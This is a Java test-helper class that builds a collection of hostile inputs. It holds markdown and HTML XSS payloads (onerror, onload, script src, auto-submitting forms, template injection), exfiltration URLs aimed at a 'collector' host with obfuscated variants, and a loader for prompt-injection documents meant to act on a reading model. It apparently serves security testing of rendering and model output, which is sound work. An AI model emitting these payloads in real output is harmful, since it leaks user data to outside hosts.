package io.groundwork.testing;

import jakarta.json.Json;
import jakarta.json.JsonReader;
import jakarta.json.JsonString;
import jakarta.json.JsonStructure;
import jakarta.json.JsonValue;
import java.io.IOException;
import java.io.InputStream;
import java.io.StringReader;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;

/** What people write who mean harm: our own, and lists in a folder that {@code -Dgroundwork.security=} names. */
public final class HostileTexts {

    /** Ways to make a reader's browser fetch something or run something; {@code @} stands for an address. */
    private static final List<String> FORMS = List.of(
            "![seal](@)",
            "![seal](<@> \"t\")",
            "![seal][s]\n\n[s]: @",
            "[form](@)",
            "<@>",
            "@",
            "<img src=\"@\" onerror=\"window.taken=1\">",
            "<svg/onload=\"window.taken=1\"><image href='@'/></svg>",
            "<iframe src=\"@\"></iframe>",
            "<link rel=stylesheet href=\"@\"><link rel=preconnect href=\"@\">",
            "<style>@import '@'; body{background:url(@)}</style>",
            "<meta http-equiv=refresh content=\"0;url=@\">",
            "<base href=\"@\"><form action=\"@\"><button autofocus onfocus=\"this.form.submit()\">x</button></form>",
            "<script src=\"@\"></script>",
            "<object data=\"@\"></object><embed src=\"@\"><video poster=\"@\" src=\"@\" autoplay></video>",
            "| a | b |\n|---|---|\n| ![x](@) | <img src=@> |",
            "note[^1]\n\n[^1]: ![x](@)",
            "`![x](@)` **<img src=@>** **![x](@)**",
            "- ![x](@)\n1. <img src=@>\n# ![x](@)",
            "```\n</code></pre><img src=@ onerror=window.taken=1>\n```");

    private static final List<String> WITHOUT_ADDRESS = List.of(
            "<script>window.taken=1</script>",
            "<img src=x onerror=window.taken=1>",
            "<body onload=window.taken=1>",
            "<a href=\"javascript:window.taken=1\" autofocus onfocus=window.taken=1>x</a>",
            "[x](javascript:window.taken=1)",
            "<svg><script>window.taken=1</script></svg>",
            "<math><mtext></math><img src=x onerror=window.taken=1>",
            "<template><script>window.taken=1</script></template>",
            "\"><script>window.taken=1</script>",
            "'-(window.taken=1)-'",
            "${window.taken=1} {{constructor.constructor('window.taken=1')()}} #{window.taken=1}",
            "<details open ontoggle=window.taken=1>",
            "&lt;script&gt;window.taken=1&lt;/script&gt;",
            "\\u003cscript\\u003ewindow.taken=1\\u003c/script\\u003e",
            "<noscript><p title=\"</noscript><img src=x onerror=window.taken=1>\">",
            "<input onfocus=window.taken=1 autofocus>");

    private static final int LONGEST_BATCH = 6_000;

    /** A document that means harm. */
    public record Written(String title, String text) {}

    private HostileTexts() {}

    /** Our own documents, each of which demands something of the model that reads it. */
    public static List<Written> documents() {
        List<Written> documents = new ArrayList<>();
        for (String document : resource("/hostile/documents.txt").split("(?m)^== ")) {
            int end = document.indexOf('\n');
            if (end > 0) {
                documents.add(new Written(document.substring(0, end), document.substring(end + 1)));
            }
        }
        return documents;
    }

    /**
     * Our own ways of getting something out of a browser, in every form and spelling.
     *
     * @param collector where it would arrive, as {@code host:port}
     */
    public static List<String> payloads(String collector) {
        List<String> addresses = List.of(
                "http://" + collector + "/c?x=secret",
                "https://" + collector + "/c",
                "//" + collector + "/c.png",
                "HTTP://" + collector + "/%63",
                "http:&#47;&#47;" + collector + "/c",
                "http://user@" + collector + "/c",
                "http:\\\\" + collector + "\\c",
                "ht\u200btp://" + collector + "/c",
                "http://[::ffff:127.0.0.1]:" + collector.split(":")[1] + "/c",
                "data:text/html,<script>fetch('http://" + collector + "')</script>",
                "javascript:fetch('//" + collector + "/c')");
        Stream<String> fetching =
                addresses.stream().flatMap(address -> FORMS.stream().map(form -> form.replace("@", address)));
        return Stream.concat(fetching, WITHOUT_ADDRESS.stream()).toList();
    }

    /** Every line of every list in the folder that was named, and every string where a list is JSON. */
    public static Optional<List<String>> lists() {
        return Optional.ofNullable(System.getProperty("groundwork.security"))
                .filter(folder -> !folder.isBlank())
                .map(HostileTexts::read);
    }

    /** Texts put together in batches that fit an answer. */
    public static List<String> batches(List<String> texts) {
        List<String> batches = new ArrayList<>();
        StringBuilder batch = new StringBuilder();
        for (String text : texts) {
            if (!batch.isEmpty() && batch.length() + text.length() > LONGEST_BATCH) {
                batches.add(batch.toString());
                batch.setLength(0);
            }
            batch.append(text).append("\n\n");
        }
        batches.add(batch.toString());
        return batches;
    }

    private static List<String> read(String folder) {
        try (Stream<Path> files = Files.walk(Path.of(folder))) {
            return files.filter(Files::isRegularFile)
                    .filter(file -> !file.getFileName().toString().startsWith("LICENSE"))
                    .sorted()
                    .flatMap(file -> texts(file).stream())
                    .filter(text -> !text.isBlank())
                    .distinct()
                    .toList();
        } catch (IOException missing) {
            throw new UncheckedIOException(missing);
        }
    }

    private static List<String> texts(Path file) {
        try {
            String text = new String(Files.readAllBytes(file), StandardCharsets.UTF_8);
            if (!file.toString().endsWith(".json")) {
                return Arrays.asList(text.split("\\R"));
            }
            try (JsonReader reader = Json.createReader(new StringReader(text))) {
                List<String> strings = new ArrayList<>();
                collect(reader.read(), strings);
                return strings;
            }
        } catch (IOException missing) {
            throw new UncheckedIOException(missing);
        }
    }

    private static void collect(JsonValue value, List<String> strings) {
        if (value instanceof JsonString text) {
            strings.add(text.getString());
        } else if (value instanceof JsonStructure structure) {
            (structure.getValueType() == JsonValue.ValueType.ARRAY
                            ? structure.asJsonArray()
                            : structure.asJsonObject().values())
                    .forEach(inner -> collect(inner, strings));
        }
    }

    private static String resource(String path) {
        try (InputStream in = HostileTexts.class.getResourceAsStream(path)) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        } catch (IOException missing) {
            throw new UncheckedIOException(missing);
        }
    }
}
